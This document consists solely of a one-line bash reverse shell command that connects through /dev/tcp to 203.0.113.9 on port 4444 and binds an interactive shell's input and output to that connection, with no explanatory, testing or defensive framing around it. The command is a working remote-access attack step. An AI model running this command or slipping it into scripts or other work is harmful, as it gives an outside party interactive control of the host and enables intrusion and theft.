exec bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; exec bash <&3 >&3 2>&3'
